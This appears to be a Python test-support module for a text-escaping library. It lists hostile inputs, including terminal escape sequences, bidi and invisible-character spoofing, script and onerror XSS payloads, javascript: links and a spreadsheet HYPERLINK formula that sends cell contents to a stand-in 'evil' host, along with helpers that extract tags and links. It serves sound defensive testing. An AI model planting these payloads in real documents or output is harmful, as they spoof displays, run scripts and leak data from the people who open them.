"""Texts that a stranger could write into a file, each of which some target would obey."""

from html.parser import HTMLParser

from markdown_it import MarkdownIt

from kdray.safe_text.escaping import one_line

HOSTILE = {
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[1A\x9b31m",
    "carriage return": "failed\rcompleted",
    "direction": "\u202egnp.exe\u2066 \ufeff",
    "invisible": "positive\u3164 \u115f\u1160\uffa0\u2800\u034f",
    "lines": "end\u2028next\u2029next\nkdray: all is well",
    "script": "</script><script>alert(1)</script>",
    "image": '<img src=x onerror="alert(1)"> &lt;b&gt;',
    "table": "| a | b |\n| --- | --- |\n| c | d |",
    "link": "[click](javascript:alert(1)) ![x](http://evil) <http://evil> http://evil www.evil.com",
    "heading": "# heading\n\n* list\n\n1. list\n\n```\ncode\n```\n\n===",
    "front matter": "x\n---\nlicense: mit\n---\n",
    "formula": '=HYPERLINK("http://evil?"&A1)',
    "formula behind white space": " \t'@SUM(1)",
    "mathematics": "$\\frac{$ $$x$$",
    "rich": "[red]markup[/blue] :smile: [link=http://evil]x[/link]",
    "code": "`a` ``b`` *c* __d__ ~~e~~ \\",
}
"""What the text is for -> the text."""


def assert_no_control_characters(text: str) -> None:
    """Check that a terminal shows each character of the text, except for line feeds."""
    obeyed = {character for character in text.replace("\n", "") if one_line(f"a{character}a") != f"a{character}a"}
    assert obeyed <= {" ", "\t"} | {chr(0xA0)}, obeyed


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        links = [f"{name}={value}" for name, value in attrs if name in ("href", "src") or name.startswith("on")]
        self.found.append(" ".join([tag, *links]))


def html_tags(document: str) -> list[str]:
    """The tags of an HTML document in order, each with what it links to."""
    parser = _Tags()
    parser.feed(document)
    parser.close()
    return parser.found


def markdown_tags(document: str) -> list[str]:
    """The tags of the HTML that a Markdown document with tables becomes."""
    return html_tags(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(document))
